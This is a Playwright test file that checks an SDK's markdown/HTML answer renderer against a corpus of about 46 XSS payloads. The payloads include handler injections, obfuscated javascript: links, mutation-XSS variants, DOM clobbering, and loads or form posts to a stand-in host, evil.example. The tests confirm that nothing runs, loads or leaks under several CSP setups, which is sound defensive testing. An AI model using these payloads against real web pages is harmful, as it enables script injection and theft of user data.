import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.js';

/**
 * The real answer renderer (marked → DOMPurify with dhkit's hooks) in Chromium, against answers written to
 * attack the page. Each answer is rendered with the public `DHKit.renderAnswer` and inserted into the live
 * document (where handlers would fire and resources would load). Nothing may run, nothing may load from a
 * foreign origin, and the media the policy allows must still show.
 */

const EVIL = 'https://evil.example';
/** Sets the canary; a payload that runs leaves its name in `window.__pwned`. */
const pwn = (name: string) => `(window.__pwned=(window.__pwned||[])).push('${name}')`;
const SERVER_IMAGE = '/avatars/default/head.svg';

/**
 * A page on its own loopback origin that loads the SDK by script tag, with the given CSP (or none). A real
 * server, not a routed URL: Chromium only lets loopback pages reach the loopback SDK server.
 */
async function startPage(serverUrl: string, csp: string | null) {
  const site = createServer((_request, response) => {
    response
      .writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...(csp ? { 'content-security-policy': csp } : {}) })
      .end(
        `<!doctype html><html><head><meta charset="utf-8"></head><body><script src="${serverUrl}/sdk/dhkit.umd.js"></script></body></html>`,
      );
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(site.address() as AddressInfo).port}`,
    close: () =>
      new Promise<void>((resolve) => {
        site.closeAllConnections();
        site.close(() => resolve());
      }),
  };
}

interface HostileCase {
  name: string;
  answer: string;
}

const HOSTILE: HostileCase[] = [
  { name: 'script element', answer: `Hello <script>${pwn('script')}</script> world` },
  { name: 'script in markdown code fence stays text', answer: `\`\`\`html\n<script>${pwn('fence')}</script>\n\`\`\`` },
  { name: 'img onerror', answer: `<img src="x" onerror="${pwn('img-onerror')}">` },
  { name: 'img onload on an allowed picture', answer: `<img src="${SERVER_IMAGE}" alt="ok" onload="${pwn('img-onload')}">` },
  { name: 'body onload', answer: `<body onload="${pwn('body-onload')}">text</body>` },
  { name: 'details ontoggle', answer: `<details open ontoggle="${pwn('ontoggle')}"><summary>s</summary>d</details>` },
  { name: 'javascript: link', answer: `<a href="javascript:${pwn('js-link')}">click</a>` },
  { name: 'mixed-case javascript: link', answer: `<a href="JaVaScRiPt:${pwn('js-case')}">click</a>` },
  {
    name: 'entity-encoded javascript: link',
    answer: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${pwn('js-entity')}">click</a>`,
  },
  { name: 'javascript: link with a tab and a newline', answer: `<a href="java&#x09;scr&#x0A;ipt:${pwn('js-tab')}">click</a>` },
  { name: 'data: link', answer: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>' },
  { name: 'vbscript: link', answer: '<a href="vbscript:msgbox(1)">click</a>' },
  { name: 'markdown javascript: link', answer: `[click](javascript:${pwn('md-link')})` },
  { name: 'markdown foreign image', answer: `![evil](${EVIL}/md.png)` },
  { name: 'http image', answer: '<img src="http://evil.example/http.png">' },
  { name: 'https image from a host not allowed', answer: `<img src="${EVIL}/foreign.png">` },
  { name: 'protocol-relative image', answer: '<img src="//evil.example/protocol-relative.png">' },
  { name: 'credentials trick', answer: '<img src="https://allowed.example@evil.example/cred.png">' },
  { name: 'srcset on an allowed picture', answer: `<img src="${SERVER_IMAGE}" srcset="${EVIL}/srcset.png 1x" alt="ok">` },
  {
    name: 'data: SVG picture with script',
    answer: '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  },
  { name: 'style attribute with CSS url()', answer: `<p style="background:url(${EVIL}/css-url.png)">styled</p>` },
  { name: 'style element with CSS url()', answer: `<style>p{background:url(${EVIL}/style-el.png)}</style><p>x</p>` },
  { name: 'base href', answer: `<base href="${EVIL}/"><img src="relative.png" alt="r"><a href="page">p</a>` },
  { name: 'meta refresh', answer: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">text` },
  { name: 'inline svg with script', answer: `<svg><script>${pwn('svg-script')}</script></svg>` },
  { name: 'inline svg onload', answer: `<svg onload="${pwn('svg-onload')}"><circle r="5"/></svg>` },
  { name: 'svg foreignObject', answer: `<svg><foreignObject><img src="x" onerror="${pwn('svg-fo')}"></foreignObject></svg>` },
  { name: 'svg use href', answer: `<svg><use href="${EVIL}/sprite.svg#x"/><image href="${EVIL}/svg-image.png"/></svg>` },
  { name: 'iframe srcdoc', answer: `<iframe srcdoc="<script>parent.${pwn('srcdoc')}</script>"></iframe>` },
  { name: 'iframe src', answer: `<iframe src="${EVIL}/frame"></iframe>` },
  { name: 'object and embed', answer: `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf">` },
  { name: 'link stylesheet', answer: `<link rel="stylesheet" href="${EVIL}/x.css">text` },
  {
    name: 'form action',
    answer: `<form action="${EVIL}/steal"><input name="q" value="secret"><button formaction="${EVIL}/b">go</button></form>`,
  },
  { name: 'input type=image', answer: `<input type="image" src="${EVIL}/input.png">` },
  { name: 'link target and opener tricks', answer: `<a href="https://example.com/" target="_self" rel="opener" ping="${EVIL}/ping">t</a>` },
  { name: 'video with foreign src and poster', answer: `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay controls></video>` },
  {
    name: 'video with foreign source',
    answer: `<video controls><source src="${EVIL}/s.mp4" type="video/mp4"><track src="${EVIL}/t.vtt"></video>`,
  },
  {
    name: 'table background attributes',
    answer: `<table background="${EVIL}/bg.png"><tr><td background="${EVIL}/td.png">x</td></tr></table>`,
  },
  { name: 'mXSS noscript', answer: `<noscript><p title="</noscript><img src=x onerror=${pwn('mxss-noscript')}>">` },
  { name: 'mXSS svg p style', answer: `<svg><p><style><img src=x onerror=${pwn('mxss-svg-style')}></style></p></svg>` },
  {
    name: 'mXSS math mglyph',
    answer: `<math><mtext><table><mglyph><style><img src=x onerror=${pwn('mxss-math')}></style></mglyph></table></mtext></math>`,
  },
  { name: 'mXSS title', answer: `<title><img src=x onerror=${pwn('mxss-title')}></title>` },
  {
    name: 'mXSS form in form',
    answer: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${pwn('mxss-form')} src=1>">`,
  },
  { name: 'template', answer: `<template><img src=x onerror=${pwn('template')}></template>` },
  {
    name: 'DOM clobbering names and ids',
    answer: '<img name="getElementById" src="x"><a id="dh" name="cookie" href="https://example.com/">c</a>',
  },
  { name: 'bad dimensions', answer: `<img src="${SERVER_IMAGE}" width="100%" height="expression(alert(1))" alt="ok">` },
];

/** The allowed media: a picture from the server's own origin, relative and absolute. */
const ALLOWED = (serverUrl: string) =>
  `A picture: ![head](${SERVER_IMAGE}) and <img src="${serverUrl}/avatars/default/background.svg" alt="background">`;

interface Outcome {
  dropped: Array<{ kind: string; value: string; reason: string }>;
  tags: string[];
  attributes: string[];
  links: Array<{ href: string; target: string | null; rel: string | null }>;
  media: string[];
}

/** Renders every answer into its own box in the live document; returns what ended up in the page. */
async function renderAll(page: Page, serverUrl: string, answers: string[], mediaAllowlist: string[] = []): Promise<Outcome[]> {
  return page.evaluate(
    async ({ answers, serverUrl, mediaAllowlist }) => {
      const DHKit = (window as any).DHKit;
      const outcomes = [];
      for (const answer of answers) {
        const { fragment, dropped } = await DHKit.renderAnswer(answer, { serverAddress: serverUrl, mediaAllowlist });
        const box = document.createElement('div');
        box.className = 'answer';
        box.append(fragment);
        document.body.append(box);
        const elements = Array.from(box.querySelectorAll('*'));
        outcomes.push({
          dropped,
          tags: elements.map((e) => e.localName),
          attributes: elements.flatMap((e) => Array.from(e.attributes).map((a) => `${e.localName}[${a.name}=${a.value}]`)),
          links: Array.from(box.querySelectorAll('a')).map((a) => ({
            href: a.getAttribute('href') ?? '',
            target: a.getAttribute('target'),
            rel: a.getAttribute('rel'),
          })),
          media: Array.from(box.querySelectorAll('img, video, source')).flatMap((e) =>
            [e.getAttribute('src'), e.getAttribute('poster')].filter((v): v is string => !!v),
          ),
        });
      }
      return outcomes;
    },
    { answers, serverUrl, mediaAllowlist },
  );
}

/** Records requests that leave for any origin but the page's and the server's; routes evil.example so attempts are seen. */
async function watchForeignRequests(page: Page, allowedOrigins: string[]): Promise<string[]> {
  const foreign: string[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (['data:', 'blob:', 'about:'].includes(url.protocol)) return;
    if (!allowedOrigins.includes(url.origin)) foreign.push(request.url());
  });
  await page.route('**://evil.example/**', (route) => route.fulfill({ status: 204, body: '' }));
  return foreign;
}

async function settle(page: Page) {
  // Give pictures time to load or fail (their onerror/onload would fire), and timers a few turns.
  await page.evaluate(async () => {
    const pictures = Array.from(document.querySelectorAll('img')) as HTMLImageElement[];
    await Promise.all(
      pictures.map((img) =>
        img.complete
          ? null
          : new Promise((resolve) => {
              img.addEventListener('load', resolve, { once: true });
              img.addEventListener('error', resolve, { once: true });
            }),
      ),
    );
    await new Promise((r) => setTimeout(r, 300));
  });
}

function expectSanitized(outcome: Outcome, name: string, serverUrl: string) {
  const forbiddenTags = [
    'script',
    'style',
    'svg',
    'math',
    'iframe',
    'object',
    'embed',
    'base',
    'meta',
    'link',
    'form',
    'input',
    'button',
    'template',
    'noscript',
    'title',
    'body',
    'track',
  ];
  for (const tag of outcome.tags) expect(forbiddenTags, `${name}: <${tag}> survived`).not.toContain(tag);
  for (const attribute of outcome.attributes) {
    expect(attribute, `${name}: ${attribute}`).not.toMatch(
      /^\w+\[(on\w+|style|srcset|background|ping|formaction|action|id|name|xlink:href)=/i,
    );
    expect(attribute.toLowerCase(), `${name}: ${attribute}`).not.toMatch(/(java|vb)script:|data:text|evil\.example\/(?!$)/);
  }
  for (const link of outcome.links) {
    if (!link.href) continue;
    expect(link.href, name).toMatch(/^(https?:|mailto:|tel:)/);
    expect(link.target, name).toBe('_blank');
    expect(link.rel, name).toBe('noopener noreferrer');
  }
  for (const src of outcome.media) expect(src.startsWith(`${serverUrl}/`), `${name}: media ${src}`).toBe(true);
}

test.describe('rich media answers', () => {
  test('a hostile corpus runs nothing and loads nothing foreign under a strict CSP', async ({ blankPage: page, server }) => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(30);
    const siteOrigin = new URL(page.url()).origin;
    const foreign = await watchForeignRequests(page, [siteOrigin, server.url]);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });

    const outcomes = await renderAll(
      page,
      server.url,
      HOSTILE.map((c) => c.answer),
    );
    await settle(page);

    HOSTILE.forEach((c, i) => expectSanitized(outcomes[i]!, c.name, server.url));
    expect(await page.evaluate(() => (window as any).__pwned ?? null)).toBeNull();
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    expect(await page.evaluate(() => (window as any).__cspViolations)).toEqual([]);

    // What a visitor would notice: the allowed picture of a hostile answer still shows; links stay links.
    const byName = (name: string) => outcomes[HOSTILE.findIndex((c) => c.name === name)]!;
    expect(byName('img onload on an allowed picture').media).toEqual([`${server.url}${SERVER_IMAGE}`]);
    expect(byName('srcset on an allowed picture').media).toEqual([`${server.url}${SERVER_IMAGE}`]);
    expect(byName('link target and opener tricks').links).toEqual([
      { href: 'https://example.com/', target: '_blank', rel: 'noopener noreferrer' },
    ]);
    expect(byName('javascript: link').links).toEqual([{ href: '', target: null, rel: null }]);
    expect(byName('base href').links[0]?.href).toBe(`${server.url}/page`);
    expect(byName('script in markdown code fence stays text').tags).toEqual(['pre', 'code']);

    // Dropped media are reported (for a weak error event), with the reason.
    expect(byName('https image from a host not allowed').dropped).toEqual([
      { kind: 'image', value: `${EVIL}/foreign.png`, reason: 'host' },
    ]);
    expect(byName('http image').dropped).toEqual([{ kind: 'image', value: 'http://evil.example/http.png', reason: 'scheme' }]);
    expect(byName('protocol-relative image').dropped[0]).toMatchObject({ kind: 'image', reason: 'scheme' });
    expect(
      byName('video with foreign src and poster')
        .dropped.map((d) => d.kind)
        .sort(),
    ).toEqual(['poster', 'video']);
    expect(byName('inline svg with script').dropped).toContainEqual({ kind: 'element', value: 'svg', reason: 'forbidden' });
    expect(byName('javascript: link').dropped).toEqual([expect.objectContaining({ kind: 'link', reason: 'scheme' })]);
  });

  test('allowed media from the server origin load and show', async ({ blankPage: page, server }) => {
    const siteOrigin = new URL(page.url()).origin;
    const foreign = await watchForeignRequests(page, [siteOrigin, server.url]);
    const [outcome] = await renderAll(page, server.url, [ALLOWED(server.url)]);
    expect(outcome!.dropped).toEqual([]);
    expect(outcome!.media).toEqual([`${server.url}${SERVER_IMAGE}`, `${server.url}/avatars/default/background.svg`]);
    const shown = page.locator('.answer img');
    await expect(shown).toHaveCount(2);
    await expect
      .poll(() => shown.evaluateAll((imgs) => (imgs as HTMLImageElement[]).map((img) => img.complete && img.naturalWidth > 0)))
      .toEqual([true, true]);
    await expect(shown.first()).toBeVisible();
    expect(foreign).toEqual([]);
    expect(await page.evaluate(() => (window as any).__cspViolations)).toEqual([]);
  });

  test('allowlisted hosts over https are kept; video, types and plain text come out right', async ({ blankPage: page, server }) => {
    // Rendered but not inserted: the fragment belongs to an inert document, so nothing is fetched.
    const result = await page.evaluate(
      async ({ serverUrl }) => {
        const DHKit = (window as any).DHKit;
        const answer = [
          '# Title',
          'Some **bold** text with a [link](https://example.com/doc).',
          '![cdn](https://media.example/pic.PNG) ![port](https://media.example:8443/pic.gif) ![webp](https://media.example/pic.webp)',
          '<video poster="https://media.example/poster.jpg" src="https://media.example/clip.mp4" width="320" height="180"></video>',
          '<video controls><source src="/clips/a.mp4" type="video/mp4"><source src="https://other.example/b.mp4"></video>',
        ].join('\n\n');
        const rendered = await DHKit.renderAnswer(answer, { serverAddress: serverUrl, mediaAllowlist: ['media.example'] });
        const box = document.createElement('div');
        box.append(rendered.fragment.cloneNode(true));
        const attributes = (selector: string) =>
          Object.fromEntries(Array.from(box.querySelector(selector)?.attributes ?? []).map((a) => [a.name, a.value]));
        return {
          video: attributes('video'),
          link: attributes('a'),
          media: rendered.media,
          dropped: rendered.dropped,
          text: DHKit.answerPlainText(rendered),
          owner: rendered.fragment.ownerDocument === document,
        };
      },
      { serverUrl: server.url },
    );
    expect(result.owner).toBe(false);
    expect(result.media).toEqual([
      { kind: 'image', src: 'https://media.example/pic.PNG', alt: 'cdn' },
      { kind: 'image', src: 'https://media.example/pic.webp', alt: 'webp' },
      { kind: 'video', src: 'https://media.example/clip.mp4', alt: '', poster: 'https://media.example/poster.jpg' },
      { kind: 'video', src: `${server.url}/clips/a.mp4`, alt: '' },
    ]);
    expect(result.dropped).toEqual([
      { kind: 'image', value: 'https://media.example:8443/pic.gif', reason: 'host' },
      { kind: 'video', value: 'https://other.example/b.mp4', reason: 'host' },
    ]);
    expect(result.video).toEqual({
      poster: 'https://media.example/poster.jpg',
      src: 'https://media.example/clip.mp4',
      width: '320',
      height: '180',
      controls: '',
      preload: 'metadata',
      playsinline: '',
    });
    expect(result.link).toEqual({ href: 'https://example.com/doc', target: '_blank', rel: 'noopener noreferrer' });
    expect(result.text).toBe('Title\nSome bold text with a link.\ncdn webp');
  });

  test('a page without CSP is protected by the sanitizer alone', async ({ page, server }) => {
    // The strict CSP would block inline handlers anyway; here only the sanitizer stands between payload and page.
    const site = await startPage(server.url, null);
    const foreign = await watchForeignRequests(page, [site.url, server.url]);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${site.url}/open`);
    await page.waitForFunction(() => typeof (window as any).DHKit?.renderAnswer === 'function');
    const outcomes = await renderAll(
      page,
      server.url,
      HOSTILE.map((c) => c.answer),
    );
    await settle(page);
    HOSTILE.forEach((c, i) => expectSanitized(outcomes[i]!, c.name, server.url));
    expect(await page.evaluate(() => (window as any).__pwned ?? null)).toBeNull();
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);

    // Control: the same kind of payload, inserted without the sanitizer, does run and does load here.
    await page.evaluate(
      ({ evil, payload }) => {
        const box = document.createElement('div');
        box.innerHTML = `<img src="x" onerror="${payload}"><img src="${evil}/control.png">`;
        document.body.append(box);
      },
      { evil: EVIL, payload: pwn('control') },
    );
    await expect.poll(() => page.evaluate(() => (window as any).__pwned ?? null)).toEqual(['control']);
    await expect.poll(() => foreign).toEqual([`${EVIL}/control.png`]);
    await site.close();
  });

  test('works where Trusted Types are enforced, through the dhkit policy', async ({ page, server }) => {
    const csp = `default-src 'self'; script-src 'self' ${server.url}; style-src 'self'; img-src 'self' ${server.url}; require-trusted-types-for 'script'; trusted-types dhkit lit-html`;
    const site = await startPage(server.url, csp);
    const violations: string[] = [];
    page.on('console', (message) => {
      if (/trusted ?type|content security policy/i.test(message.text())) violations.push(message.text());
    });
    page.on('pageerror', (error) => violations.push(String(error)));
    await page.goto(`${site.url}/tt`);
    await page.waitForFunction(() => typeof (window as any).DHKit?.renderAnswer === 'function');
    const [outcome] = await renderAll(page, server.url, [`**hi** <img src="x" onerror="${pwn('tt')}"> ${ALLOWED(server.url)}`]);
    await settle(page);
    expect(outcome!.tags).toEqual(['p', 'strong', 'img', 'img']);
    expect(outcome!.media).toEqual([`${server.url}${SERVER_IMAGE}`, `${server.url}/avatars/default/background.svg`]);
    expect(await page.evaluate(() => (window as any).__pwned ?? null)).toBeNull();
    expect(violations).toEqual([]);
    // Trusted Types really are enforced here, and the renderer went through the `dhkit` policy: it exists
    // already, so the page cannot create another one of that name.
    const enforcement = await page.evaluate(() => {
      const tt = (window as any).trustedTypes;
      let sinkRefused = false;
      let duplicateRefused = false;
      try {
        document.body.innerHTML = '<b>x</b>';
      } catch {
        sinkRefused = true;
      }
      try {
        tt.createPolicy('dhkit', { createHTML: (s: string) => s });
      } catch {
        duplicateRefused = true;
      }
      return { sinkRefused, duplicateRefused };
    });
    expect(enforcement).toEqual({ sinkRefused: true, duplicateRefused: true });
    await site.close();
  });
});
